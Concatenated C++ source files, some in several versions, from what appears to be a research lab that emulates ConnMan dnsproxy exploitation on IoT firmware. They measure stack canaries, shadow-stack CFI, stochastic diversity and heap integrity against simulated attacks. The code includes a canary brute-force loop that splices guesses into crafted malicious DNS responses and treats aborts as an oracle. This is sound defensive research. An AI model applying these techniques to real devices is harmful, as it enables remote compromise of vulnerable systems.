      return std::make_shared<ShadowStackCfi>();
    case DefenseKind::kStochasticDiversity:
      return std::make_shared<StochasticDiversity>();
    case DefenseKind::kHeapIntegrity:
      return std::make_shared<HeapIntegrity>();
  }
  return nullptr;
}

DefensePolicy DefensePolicy::Canary(int entropy_bits) {
  DefensePolicy policy;
  policy.Add(std::make_shared<StackCanary>(entropy_bits));
  return policy;
}

DefensePolicy DefensePolicy::Cfi() {
  DefensePolicy policy;
  policy.Add(std::make_shared<ShadowStackCfi>());
  return policy;
}

DefensePolicy DefensePolicy::Diversity() {
  DefensePolicy policy;
  policy.Add(std::make_shared<StochasticDiversity>());
  return policy;
}

DefensePolicy DefensePolicy::HeapIntegrityChecks() {
  DefensePolicy policy;
  policy.Add(std::make_shared<HeapIntegrity>());
  return policy;
}

DefensePolicy DefensePolicy::All() {
  DefensePolicy policy;
  policy.Add(std::make_shared<StackCanary>())
      .Add(std::make_shared<ShadowStackCfi>())
      .Add(std::make_shared<StochasticDiversity>());
  return policy;
}

DefensePolicy& DefensePolicy::Add(std::shared_ptr<const Mitigation> mitigation) {
  if (mitigation != nullptr) mitigations_.push_back(std::move(mitigation));
  return *this;
}

bool DefensePolicy::Has(DefenseKind kind) const noexcept {
  for (const auto& m : mitigations_) {
    if (m->kind() == kind) return true;
  }
  return false;
}

void DefensePolicy::Configure(loader::ProtectionConfig& prot) const {
  for (const auto& m : mitigations_) m->Configure(prot);
}

util::Status DefensePolicy::Arm(loader::System& sys) const {
  for (const auto& m : mitigations_) {
    CONNLAB_RETURN_IF_ERROR(m->Arm(sys));
  }
  return util::OkStatus();
}

std::string DefensePolicy::Label() const {
  if (mitigations_.empty()) return "none";
  if (Has(DefenseKind::kStackCanary) && Has(DefenseKind::kShadowStackCfi) &&
      Has(DefenseKind::kStochasticDiversity)) {
    return "all";
  }
  std::string label;
  for (const auto& m : mitigations_) {
    if (!label.empty()) label += '+';
    label += m->name();
  }
  return label;
}

util::Result<std::unique_ptr<loader::System>> DefensePolicy::BootHardened(
    isa::Arch arch, loader::ProtectionConfig base, std::uint64_t seed) const {
  Configure(base);
  CONNLAB_ASSIGN_OR_RETURN(auto sys, loader::Boot(arch, base, seed));
  CONNLAB_RETURN_IF_ERROR(Arm(*sys));
  return sys;
}

DefensePolicy PolicySpec::Build() const {
  DefensePolicy policy;
  if (canary_bits > 0) policy.Add(std::make_shared<StackCanary>(canary_bits));
  if (cfi) policy.Add(std::make_shared<ShadowStackCfi>());
  if (stochastic_diversity) policy.Add(std::make_shared<StochasticDiversity>());
  if (heap_integrity) policy.Add(std::make_shared<HeapIntegrity>());
  return policy;
}

std::string PolicySpec::Label() const {
  if (canary_bits <= 0 && !cfi && !stochastic_diversity && !heap_integrity) {
    return "none";
  }
  std::string label;
  if (canary_bits > 0) label = "canary" + std::to_string(canary_bits);
  if (cfi) {
    if (!label.empty()) label += '+';
    label += "CFI";
  }
  if (stochastic_diversity) {
    if (!label.empty()) label += '+';
    label += "diversity";
  }
  if (heap_integrity) {
    if (!label.empty()) label += '+';
    label += "heap-integrity";
  }
  return label;
}

std::vector<DefensePolicy> StandardPolicies() {
  std::vector<DefensePolicy> policies;
  policies.push_back(DefensePolicy::None());
  policies.push_back(DefensePolicy::Canary());
  policies.push_back(DefensePolicy::Cfi());
  policies.push_back(DefensePolicy::Diversity());
  policies.push_back(DefensePolicy::All());
  return policies;
}

}  // namespace connlab::defense
