#include "src/defense/canary.hpp"

#include <cmath>
#include <string>

#include "src/connman/dnsproxy.hpp"
#include "src/connman/frame.hpp"
#include "src/dns/craft.hpp"
#include "src/dns/record.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/obs/obs.hpp"

namespace connlab::defense {

void StackCanary::Configure(loader::ProtectionConfig& prot) const {
  prot.canary = true;
  prot.canary_entropy_bits = entropy_bits_;
}

util::Status StackCanary::Arm(loader::System& sys) const {
  if (!sys.prot.canary || sys.canary_value == 0) {
    return util::FailedPrecondition(
        "canary: boot drew no guard value (prot.canary not set?)");
  }
  return util::OkStatus();
}

std::string StackCanary::Describe() const {
  return "stack canary: per-boot random guard below the saved registers, " +
         std::to_string(entropy_bits_) +
         " bits of entropy; checked before the parse_response epilogue";
}

double StackCanary::ExpectedBruteForceAttempts() const noexcept {
  return std::ldexp(1.0, entropy_bits_ - 1);
}

namespace {

/// The guess spliced into the non-canary exploit image: everything below
/// the guard slot stays put, everything at or above it shifts by the 4-byte
/// pad the protector inserts.
util::Result<dns::PayloadImage> SpliceGuess(const dns::PayloadImage& base,
                                            std::uint32_t canary_offset,
                                            std::uint32_t guess) {
  dns::PayloadImage image(base.size() + 4, base.filler());
  for (std::size_t off = 0; off < base.size(); ++off) {
    if (!base.required(off)) continue;
    const std::uint8_t byte = base.at(off);
    const std::size_t dst = off < canary_offset ? off : off + 4;
    CONNLAB_RETURN_IF_ERROR(image.SetBytes(dst, util::ByteSpan(&byte, 1)));
  }
  CONNLAB_RETURN_IF_ERROR(image.SetWord(canary_offset, guess));
  return image;
}

}  // namespace

util::Result<CanaryBruteForceReport> BruteForceCanary(
    isa::Arch arch, int entropy_bits, std::uint64_t target_seed,
    std::uint64_t max_attempts) {
  OBS_TRACE_SPAN(brute_span, "defense", "BruteForceCanary");
  if (entropy_bits < 1 || entropy_bits > 24) {
    return util::InvalidArgument(
        "brute force is only tractable against narrowed canaries "
        "(1..24 bits)");
  }
  if (max_attempts == 0) {
    return util::InvalidArgument("max_attempts must be positive");
  }

  // The attacker's lab: the W^X build *without* the canary — the exploit is
  // crafted against the unpadded frame and the guess supplies the pad.
  const loader::ProtectionConfig lab_prot = loader::ProtectionConfig::WxOnly();
  CONNLAB_ASSIGN_OR_RETURN(auto lab, loader::Boot(arch, lab_prot, 100));
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, extractor.Extract());
  exploit::ExploitGenerator generator(profile);
  const exploit::Technique technique = exploit::TechniqueFor(arch, lab_prot);
  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage base,
                           generator.BuildImage(technique));

  // The victim: same protection level plus the narrowed guard. One boot,
  // one guard value — the brute force models a device that respawns the
  // worker without re-randomising (fork-server style).
  loader::ProtectionConfig victim_prot = lab_prot;
  StackCanary(entropy_bits).Configure(victim_prot);
  CONNLAB_ASSIGN_OR_RETURN(auto victim,
                           loader::Boot(arch, victim_prot, target_seed));
  connman::DnsProxy proxy(*victim, connman::Version::k134);
  const std::uint32_t canary_offset =
      connman::FrameFor(victim_prot, arch).canary_offset();

  CanaryBruteForceReport report;
  const std::uint64_t space = 1ull << entropy_bits;
  for (std::uint64_t g = 0; g < space && report.attempts < max_attempts; ++g) {
    // Mirrors the boot-time draw: guard = 0x01010101 + (bits-wide value).
    const std::uint32_t guess =
        0x01010101u + static_cast<std::uint32_t>(g);
    CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                             SpliceGuess(base, canary_offset, guess));
    CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels, dns::CutIntoLabels(image));

    const auto id = static_cast<std::uint16_t>(0x4000u + (g & 0x3FFFu));
    dns::Message query = dns::Message::Query(id, "target.device.lan");
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(qwire));
    (void)fwd;
    dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));

    ++report.attempts;
    const connman::ProxyOutcome outcome = proxy.HandleServerResponse(rwire);
    if (outcome.kind == connman::ProxyOutcome::Kind::kAbort) {
      ++report.aborts;  // wrong guess: __stack_chk_fail is the oracle
      continue;
    }
    report.recovered = true;
    report.canary = guess;
    report.shell = outcome.kind == connman::ProxyOutcome::Kind::kShell;
    break;
  }
  return report;
}

}  // namespace connlab::defense
