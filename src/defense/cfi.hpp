// Shadow-stack control-flow integrity, after CFI CaRE: every call pushes
// the return address onto an isolated shadow stack (the host-side vector in
// vm::Cpu, standing in for TrustZone-protected memory), and every return —
// `ret` on VX86, `pop {…, pc}` on VARM, and the parse_response epilogue
// itself — must match the shadow top or the CPU stops with
// StopReason::kCfiViolation. The attacker can smash the guest stack at
// will; the shadow copy is simply not addressable from guest code.
#pragma once

#include "src/defense/mitigation.hpp"

namespace connlab::defense {

class ShadowStackCfi : public Mitigation {
 public:
  [[nodiscard]] DefenseKind kind() const noexcept override {
    return DefenseKind::kShadowStackCfi;
  }
  [[nodiscard]] std::string_view name() const noexcept override {
    return "CFI";
  }

  /// Boots the victim with prot.cfi — the loader enables the CPU shadow
  /// stack and the proxy registers parse_response's return site.
  void Configure(loader::ProtectionConfig& prot) const override;

  /// Verifies the shadow stack actually came up (re-arms it if a caller
  /// built the config by hand without the cfi bit).
  util::Status Arm(loader::System& sys) const override;

  [[nodiscard]] std::string Describe() const override;
};

}  // namespace connlab::defense
