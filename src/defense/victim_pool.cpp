#include "src/defense/victim_pool.hpp"

#include <chrono>

#include "src/adapt/camstored.hpp"
#include "src/adapt/resolvd.hpp"
#include "src/obs/obs.hpp"

namespace connlab::defense {
namespace {

std::uint64_t ElapsedNs(std::chrono::steady_clock::time_point start) {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now() - start)
          .count());
}

/// The zoo daemons speak ServiceOutcome; the pool's memo speaks the proxy
/// vocabulary. Same bridge as the attack matrix uses.
connman::ProxyOutcome::Kind BridgeServiceKind(
    adapt::ServiceOutcome::Kind kind) noexcept {
  using In = adapt::ServiceOutcome::Kind;
  using Out = connman::ProxyOutcome::Kind;
  switch (kind) {
    case In::kOk:
      return Out::kParsedOk;
    case In::kRejected:
      return Out::kDroppedInvalid;
    case In::kCrash:
      return Out::kCrash;
    case In::kShell:
      return Out::kShell;
    case In::kExec:
      return Out::kExec;
    case In::kAbort:
      return Out::kAbort;
    case In::kOther:
      return Out::kOther;
  }
  return Out::kOther;
}

}  // namespace

util::Result<VictimPool::Lane*> VictimPool::GetLane(std::uint32_t variant,
                                                    const PolicySpec& spec) {
  const std::uint64_t key = LaneKey(variant, spec);
  auto it = lanes_.find(key);
  if (it == lanes_.end()) {
    CONNLAB_ASSIGN_OR_RETURN(
        auto sys, spec.Build().BootHardened(
                      config_.arch, config_.base,
                      config_.seed0 + static_cast<std::uint64_t>(variant)));
    Lane lane;
    lane.sys = std::move(sys);
    if (!config_.superblocks) lane.sys->cpu->set_superblocks_enabled(false);
    if (!config_.block_links) lane.sys->cpu->set_block_links_enabled(false);
    if (!config_.shared_blocks) {
      lane.sys->cpu->set_shared_superblocks_enabled(false);
    }
    lane.snap = loader::TakeSnapshot(*lane.sys);
    it = lanes_.emplace(key, std::move(lane)).first;
    ++stats_.lanes;
    OBS_COUNT("fleet.lanes_booted");
  }
  return &it->second;
}

util::Status VictimPool::BootVictim(std::uint32_t variant,
                                    const PolicySpec& spec) {
  CONNLAB_ASSIGN_OR_RETURN(Lane * lane, GetLane(variant, spec));
  const auto start = std::chrono::steady_clock::now();
  CONNLAB_RETURN_IF_ERROR(loader::RestoreSnapshot(*lane->sys, lane->snap));
  OBS_HISTOGRAM("loader.restore_cost", ElapsedNs(start));
  ++stats_.restores;
  return util::OkStatus();
}

util::Result<VictimPool::VolleyOutcome> VictimPool::FireVolley(
    std::uint32_t variant, const PolicySpec& spec, std::uint64_t volley_id,
    const util::Bytes& query_wire, const util::Bytes& response_wire,
    bool bypass_memo) {
  const auto memo_key = std::make_pair(LaneKey(variant, spec), volley_id);
  if (!bypass_memo) {
    auto hit = memo_.find(memo_key);
    if (hit != memo_.end()) {
      ++stats_.memo_hits;
      return hit->second;
    }
  }

  CONNLAB_RETURN_IF_ERROR(BootVictim(variant, spec));
  CONNLAB_ASSIGN_OR_RETURN(Lane * lane, GetLane(variant, spec));

  // A fresh proxy per delivery clears host-side pending state, exactly like
  // the freshly-rebooted device it models.
  connman::DnsProxy proxy(*lane->sys, config_.version);
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(query_wire));
  (void)fwd;

  const auto start = std::chrono::steady_clock::now();
  const connman::ProxyOutcome outcome =
      proxy.HandleServerResponse(response_wire);
  OBS_HISTOGRAM("vm.exec_latency", ElapsedNs(start));
  ++stats_.evaluations;

  using Kind = connman::ProxyOutcome::Kind;
  VolleyOutcome result;
  result.kind = outcome.kind;
  result.shell = outcome.kind == Kind::kShell;
  result.crashed = outcome.kind == Kind::kCrash;
  result.trapped = outcome.kind == Kind::kAbort ||
                   outcome.kind == Kind::kCfiViolation ||
                   outcome.kind == Kind::kParseError;
  memo_[memo_key] = result;
  return result;
}

util::Result<VictimPool::VolleyOutcome> VictimPool::FireServiceVolley(
    std::uint32_t variant, const PolicySpec& spec, std::uint64_t volley_id,
    ServiceKind service, const std::vector<util::Bytes>& requests,
    bool bypass_memo) {
  // Salt the service into the id's top bits so resolvd, camstored, and the
  // dnsproxy volleys of FireVolley (which keeps the top bits zero) can
  // never share a memo slot even at identical (lane, volley_id)
  // coordinates.
  const std::uint64_t salted_id =
      volley_id | (static_cast<std::uint64_t>(service) + 1) << 56;
  const auto memo_key = std::make_pair(LaneKey(variant, spec), salted_id);
  if (!bypass_memo) {
    auto hit = memo_.find(memo_key);
    if (hit != memo_.end()) {
      ++stats_.memo_hits;
      return hit->second;
    }
  }

  CONNLAB_RETURN_IF_ERROR(BootVictim(variant, spec));
  CONNLAB_ASSIGN_OR_RETURN(Lane * lane, GetLane(variant, spec));

  const auto start = std::chrono::steady_clock::now();
  adapt::ServiceOutcome outcome;
  switch (service) {
    case ServiceKind::kResolvd: {
      adapt::Resolvd daemon(*lane->sys);
      for (const util::Bytes& wire : requests) {
        outcome = daemon.HandleQuery(wire);
        if (outcome.kind != adapt::ServiceOutcome::Kind::kOk) break;
      }
      break;
    }
    case ServiceKind::kCamstored: {
      adapt::Camstored daemon(*lane->sys);
      for (const util::Bytes& wire : requests) {
        outcome = daemon.HandleRequest(wire);
        if (outcome.kind != adapt::ServiceOutcome::Kind::kOk) break;
      }
      break;
    }
  }
  OBS_HISTOGRAM("vm.exec_latency", ElapsedNs(start));
  ++stats_.evaluations;

  VolleyOutcome result;
  result.kind = BridgeServiceKind(outcome.kind);
  result.shell = outcome.kind == adapt::ServiceOutcome::Kind::kShell;
  result.crashed = outcome.kind == adapt::ServiceOutcome::Kind::kCrash;
  result.trapped = outcome.kind == adapt::ServiceOutcome::Kind::kAbort;
  memo_[memo_key] = result;
  return result;
}

}  // namespace connlab::defense
