// A pool of diversified victim boots for population-scale campaigns.
//
// The fleet simulator boots millions of victims, but a population only has
// as many *distinct* memory layouts as its diversity entropy allows: with b
// bits of boot-seed entropy there are 2^b variants, and every victim is a
// snapshot-restore of one of them. The pool makes that explicit: a "lane"
// is one real loader::Boot of (variant seed, policy) kept alive with its
// snapshot, a per-victim boot is a dirty-page RestoreSnapshot on its lane
// (~sub-microsecond), and exploit deliveries against a lane are memoized —
// the same snapshot fed the same wire bytes is deterministic, so only the
// first victim on a lane pays the guest-code cost.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <utility>
#include <vector>

#include "src/connman/dnsproxy.hpp"
#include "src/defense/mitigation.hpp"
#include "src/isa/isa.hpp"
#include "src/loader/boot.hpp"
#include "src/loader/snapshot.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::defense {

class VictimPool {
 public:
  struct Config {
    isa::Arch arch = isa::Arch::kVX86;
    loader::ProtectionConfig base;       // population-wide baseline
    std::uint64_t seed0 = 1;             // variant v boots at seed0 + v
    connman::Version version = connman::Version::k134;
    /// Superblock tier on lane CPUs; disable-only knob (the process-wide
    /// default still governs), threaded through fleet::FleetConfig.
    bool superblocks = true;
    /// Block linking / continuation within the tier; same contract.
    bool block_links = true;
    /// SharedSuperblockRegistry publication/import; same contract.
    bool shared_blocks = true;
  };

  struct VolleyOutcome {
    connman::ProxyOutcome::Kind kind = connman::ProxyOutcome::Kind::kOther;
    bool shell = false;    // exploit got its shell (compromise)
    bool crashed = false;  // DoS: the device went down
    bool trapped = false;  // a mitigation fired (abort / CFI / parse reject)
  };

  /// Which guest daemon FireServiceVolley constructs over the lane. The
  /// dnsproxy path keeps its dedicated FireVolley (query + raced response);
  /// the target-zoo daemons take a plain request sequence instead.
  enum class ServiceKind : std::uint8_t {
    kResolvd,    // pointer-loop name expander (adapt::Resolvd)
    kCamstored,  // heap-backed cache daemon (adapt::Camstored)
  };

  struct Stats {
    std::uint64_t lanes = 0;        // real boots: distinct (variant, policy)
    std::uint64_t restores = 0;     // per-victim snapshot restores
    std::uint64_t evaluations = 0;  // real guest-code volley runs
    std::uint64_t memo_hits = 0;    // deliveries answered from the memo
  };

  explicit VictimPool(Config config) : config_(config) {}

  VictimPool(const VictimPool&) = delete;
  VictimPool& operator=(const VictimPool&) = delete;

  /// Boots this victim: lazily materialises the (variant, spec) lane on
  /// first use, then restores its snapshot. Records the restore cost in the
  /// `loader.restore_cost` histogram (nanoseconds).
  util::Status BootVictim(std::uint32_t variant, const PolicySpec& spec);

  /// Boots the victim, then fires `query_wire` + `response_wire` through a
  /// fresh proxy attached to it. Memoized on (variant, spec, volley_id);
  /// pass `bypass_memo` to force a real guest-code run (tests use this to
  /// check the memo's honesty). Real runs record `vm.exec_latency` (ns).
  util::Result<VolleyOutcome> FireVolley(std::uint32_t variant,
                                         const PolicySpec& spec,
                                         std::uint64_t volley_id,
                                         const util::Bytes& query_wire,
                                         const util::Bytes& response_wire,
                                         bool bypass_memo = false);

  /// Boots the victim, constructs `service` over the restored lane (a fresh
  /// daemon on a freshly-restored device, exactly like FireVolley's fresh
  /// proxy), and feeds `requests` in order — the groom sequence plus the
  /// trigger. The first non-OK outcome ends the run: a device that dies
  /// mid-groom is down, there is nobody left to parse the rest. Memoized on
  /// (variant, spec, volley_id) like FireVolley; callers must hand distinct
  /// volley_ids to distinct request sequences.
  util::Result<VolleyOutcome> FireServiceVolley(
      std::uint32_t variant, const PolicySpec& spec, std::uint64_t volley_id,
      ServiceKind service, const std::vector<util::Bytes>& requests,
      bool bypass_memo = false);

  [[nodiscard]] const Stats& stats() const noexcept { return stats_; }

 private:
  struct Lane {
    std::unique_ptr<loader::System> sys;
    loader::Snapshot snap;
  };

  static std::uint64_t LaneKey(std::uint32_t variant,
                               const PolicySpec& spec) noexcept {
    return (static_cast<std::uint64_t>(variant) << 32) | spec.Key();
  }

  util::Result<Lane*> GetLane(std::uint32_t variant, const PolicySpec& spec);

  Config config_;
  std::map<std::uint64_t, Lane> lanes_;
  std::map<std::pair<std::uint64_t, std::uint64_t>, VolleyOutcome> memo_;
  Stats stats_;
};

}  // namespace connlab::defense
