// Heap-integrity checks as a deployable mitigation (the embedded-mitigations
// survey's "heap protection" column, made concrete): the guest allocator's
// chunk-header canaries and safe-unlink invariants are verified on every
// free, and a mismatch stops the VM with the dedicated HeapCorruption
// reason instead of letting the unlink write fire. Stack canaries and CFI
// never see the heap-metadata bug class; this is the defense that does.
#pragma once

#include "src/defense/mitigation.hpp"

namespace connlab::defense {

class HeapIntegrity : public Mitigation {
 public:
  HeapIntegrity() = default;

  [[nodiscard]] DefenseKind kind() const noexcept override {
    return DefenseKind::kHeapIntegrity;
  }
  [[nodiscard]] std::string_view name() const noexcept override {
    return "heap-integrity";
  }

  /// Boots the victim with prot.heap_integrity; services that attach a
  /// GuestHeap arm the allocator checks from that flag.
  void Configure(loader::ProtectionConfig& prot) const override;

  [[nodiscard]] std::string Describe() const override;
};

}  // namespace connlab::defense
