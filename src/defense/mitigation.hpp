// The pluggable exploit-mitigation layer (§IV made first-class).
//
// A Mitigation is one concrete defense an IoT deployment could retrofit:
// it knows how to fold itself into a boot-time ProtectionConfig and how to
// arm/verify itself on a booted System. A DefensePolicy is a composable set
// of mitigations — the unit the attack matrix sweeps, so every scenario is
// graded as arch × protections × defense.
//
// The three concrete defenses mirror the related work the repo tracks:
// shadow-stack CFI (CFI CaRE), stack canaries with a brute-force-resistance
// knob, and DAEDALUS-style stochastic software diversity.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "src/isa/isa.hpp"
#include "src/loader/boot.hpp"
#include "src/util/status.hpp"

namespace connlab::defense {

enum class DefenseKind : std::uint8_t {
  kStackCanary,
  kShadowStackCfi,
  kStochasticDiversity,
  kHeapIntegrity,
};

std::string_view DefenseKindName(DefenseKind kind) noexcept;

class Mitigation {
 public:
  virtual ~Mitigation() = default;

  [[nodiscard]] virtual DefenseKind kind() const noexcept = 0;
  [[nodiscard]] virtual std::string_view name() const noexcept = 0;

  /// Folds the mitigation into the protection config a victim boots with.
  virtual void Configure(loader::ProtectionConfig& prot) const = 0;

  /// Arms / verifies the mitigation on a booted system. The default is a
  /// no-op: most mitigations act entirely through Configure + the loader.
  virtual util::Status Arm(loader::System& sys) const;

  /// One-line description for reports and the defense lab.
  [[nodiscard]] virtual std::string Describe() const = 0;
};

/// Builds the default-parameter mitigation of a kind.
std::shared_ptr<const Mitigation> MakeMitigation(DefenseKind kind);

/// A composable set of mitigations applied to one victim boot.
class DefensePolicy {
 public:
  DefensePolicy() = default;

  static DefensePolicy None() { return {}; }
  static DefensePolicy Canary(int entropy_bits = 32);
  static DefensePolicy Cfi();
  static DefensePolicy Diversity();
  static DefensePolicy HeapIntegrityChecks();
  static DefensePolicy All();

  DefensePolicy& Add(std::shared_ptr<const Mitigation> mitigation);

  [[nodiscard]] bool empty() const noexcept { return mitigations_.empty(); }
  [[nodiscard]] bool Has(DefenseKind kind) const noexcept;
  [[nodiscard]] const std::vector<std::shared_ptr<const Mitigation>>&
  mitigations() const noexcept {
    return mitigations_;
  }

  /// Folds every mitigation into `prot` (what the victim boots with).
  void Configure(loader::ProtectionConfig& prot) const;

  /// Arms every mitigation on a booted system.
  util::Status Arm(loader::System& sys) const;

  /// Stable short label for report columns: "none", "canary", "CFI",
  /// "diversity", "all", or a "+"-joined combination.
  [[nodiscard]] std::string Label() const;

  /// Convenience: Configure + Boot + Arm in one step.
  util::Result<std::unique_ptr<loader::System>> BootHardened(
      isa::Arch arch, loader::ProtectionConfig base, std::uint64_t seed) const;

 private:
  std::vector<std::shared_ptr<const Mitigation>> mitigations_;
};

/// The five policies every defense report sweeps, in report order:
/// none, canary, CFI, diversity, all.
std::vector<DefensePolicy> StandardPolicies();

/// A value-type description of a DefensePolicy — the batch/population form.
/// Where DefensePolicy composes live Mitigation objects, a PolicySpec is a
/// POD a population profile can sample per client and a snapshot pool can
/// use as a cache key: equal keys boot byte-identical protection configs.
struct PolicySpec {
  /// Canary entropy in bits; 0 disables the stack protector entirely.
  int canary_bits = 0;
  bool cfi = false;
  bool stochastic_diversity = false;
  bool heap_integrity = false;

  /// Stable compact key (canary bits are 0..32, so 6 bits suffice).
  [[nodiscard]] std::uint32_t Key() const noexcept {
    return static_cast<std::uint32_t>(canary_bits) |
           (cfi ? 1u << 6 : 0u) | (stochastic_diversity ? 1u << 7 : 0u) |
           (heap_integrity ? 1u << 8 : 0u);
  }
  /// Builds the equivalent composed policy.
  [[nodiscard]] DefensePolicy Build() const;
  /// Short label in DefensePolicy::Label() vocabulary ("none",
  /// "canary16+CFI", "diversity", ...).
  [[nodiscard]] std::string Label() const;

  bool operator==(const PolicySpec&) const = default;
};

}  // namespace connlab::defense
