#include "src/defense/diversity.hpp"

#include "src/attack/battery.hpp"
#include "src/connman/dnsproxy.hpp"
#include "src/loader/snapshot.hpp"

namespace connlab::defense {

void StochasticDiversity::Configure(loader::ProtectionConfig& prot) const {
  prot.stochastic_diversity = true;
}

std::string StochasticDiversity::Describe() const {
  return "stochastic diversity: per-boot function shuffle, gap padding and "
         "libc re-seating (DAEDALUS model); hardcoded addresses go stale";
}

util::Result<DiversityTrialStats> MeasureDiversityResistance(
    isa::Arch arch, loader::ProtectionConfig base, int trials,
    std::uint64_t seed0) {
  CONNLAB_ASSIGN_OR_RETURN(
      std::vector<DiversityTrialStats> rows,
      MeasureDiversityResistanceMatrix(arch, base, trials, seed0,
                                       {exploit::TechniqueFor(arch, base)}));
  return rows[0];
}

util::Result<std::vector<DiversityTrialStats>> MeasureDiversityResistanceMatrix(
    isa::Arch arch, loader::ProtectionConfig base, int trials,
    std::uint64_t seed0, const std::vector<exploit::Technique>& techniques) {
  if (trials < 1) return util::InvalidArgument("trials must be positive");
  if (techniques.empty()) {
    return util::InvalidArgument("need at least one technique");
  }

  // The attacker profiles the stock (non-diversified) firmware and builds
  // one volley per technique; diversity's whole claim is that these
  // volleys go stale.
  CONNLAB_ASSIGN_OR_RETURN(
      attack::VolleyBattery battery,
      attack::BuildVolleyBattery(arch, base, /*lab_seed=*/100, techniques));
  if (battery.volleys.size() != techniques.size()) {
    return util::FailedPrecondition(
        "not every technique is buildable for this profile");
  }

  loader::ProtectionConfig victim_prot = base;
  StochasticDiversity().Configure(victim_prot);

  std::vector<DiversityTrialStats> rows(techniques.size());
  for (DiversityTrialStats& row : rows) row.trials = trials;

  for (int t = 0; t < trials; ++t) {
    // One loader run per trial; every technique sees this exact boot via
    // snapshot restore, so the comparison isolates the technique.
    CONNLAB_ASSIGN_OR_RETURN(
        auto victim,
        loader::Boot(arch, victim_prot, seed0 + static_cast<std::uint64_t>(t)));
    const loader::Snapshot snap = loader::TakeSnapshot(*victim);

    for (std::size_t v = 0; v < battery.volleys.size(); ++v) {
      if (v > 0) {
        CONNLAB_RETURN_IF_ERROR(loader::RestoreSnapshot(*victim, snap));
      }
      // A fresh proxy per volley clears host-side pending state, exactly
      // like a fresh boot would.
      connman::DnsProxy proxy(*victim, connman::Version::k134);
      CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd,
                               proxy.AcceptClientQuery(battery.query_wire));
      (void)fwd;

      using Kind = connman::ProxyOutcome::Kind;
      switch (proxy.HandleServerResponse(battery.volleys[v].response_wire)
                  .kind) {
        case Kind::kShell: ++rows[v].shells; break;
        case Kind::kCrash: ++rows[v].crashes; break;
        case Kind::kAbort:
        case Kind::kCfiViolation:
        case Kind::kParseError: ++rows[v].traps; break;
        default: ++rows[v].other; break;
      }
    }
  }
  return rows;
}

}  // namespace connlab::defense
