#include "src/defense/diversity.hpp"

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/dns/record.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"

namespace connlab::defense {

void StochasticDiversity::Configure(loader::ProtectionConfig& prot) const {
  prot.stochastic_diversity = true;
}

std::string StochasticDiversity::Describe() const {
  return "stochastic diversity: per-boot function shuffle, gap padding and "
         "libc re-seating (DAEDALUS model); hardcoded addresses go stale";
}

util::Result<DiversityTrialStats> MeasureDiversityResistance(
    isa::Arch arch, loader::ProtectionConfig base, int trials,
    std::uint64_t seed0) {
  if (trials < 1) return util::InvalidArgument("trials must be positive");

  // The attacker profiles the stock (non-diversified) firmware and builds
  // one volley; diversity's whole claim is that this volley goes stale.
  CONNLAB_ASSIGN_OR_RETURN(auto lab, loader::Boot(arch, base, 100));
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, extractor.Extract());
  exploit::ExploitGenerator generator(profile);
  const exploit::Technique technique = exploit::TechniqueFor(arch, base);
  CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels,
                           generator.BuildLabels(technique));

  loader::ProtectionConfig victim_prot = base;
  StochasticDiversity().Configure(victim_prot);

  DiversityTrialStats stats;
  stats.trials = trials;
  for (int t = 0; t < trials; ++t) {
    CONNLAB_ASSIGN_OR_RETURN(
        auto victim,
        loader::Boot(arch, victim_prot, seed0 + static_cast<std::uint64_t>(t)));
    connman::DnsProxy proxy(*victim, connman::Version::k134);

    dns::Message query = dns::Message::Query(0x7E57, "target.device.lan");
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(qwire));
    (void)fwd;
    dns::Message evil = dns::MaliciousAResponse(query, labels);
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));

    using Kind = connman::ProxyOutcome::Kind;
    switch (proxy.HandleServerResponse(rwire).kind) {
      case Kind::kShell: ++stats.shells; break;
      case Kind::kCrash: ++stats.crashes; break;
      case Kind::kAbort:
      case Kind::kCfiViolation:
      case Kind::kParseError: ++stats.traps; break;
      default: ++stats.other; break;
    }
  }
  return stats;
}

}  // namespace connlab::defense
