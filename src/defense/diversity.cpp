#include "src/defense/diversity.hpp"

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/dns/record.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/snapshot.hpp"

namespace connlab::defense {

void StochasticDiversity::Configure(loader::ProtectionConfig& prot) const {
  prot.stochastic_diversity = true;
}

std::string StochasticDiversity::Describe() const {
  return "stochastic diversity: per-boot function shuffle, gap padding and "
         "libc re-seating (DAEDALUS model); hardcoded addresses go stale";
}

util::Result<DiversityTrialStats> MeasureDiversityResistance(
    isa::Arch arch, loader::ProtectionConfig base, int trials,
    std::uint64_t seed0) {
  CONNLAB_ASSIGN_OR_RETURN(
      std::vector<DiversityTrialStats> rows,
      MeasureDiversityResistanceMatrix(arch, base, trials, seed0,
                                       {exploit::TechniqueFor(arch, base)}));
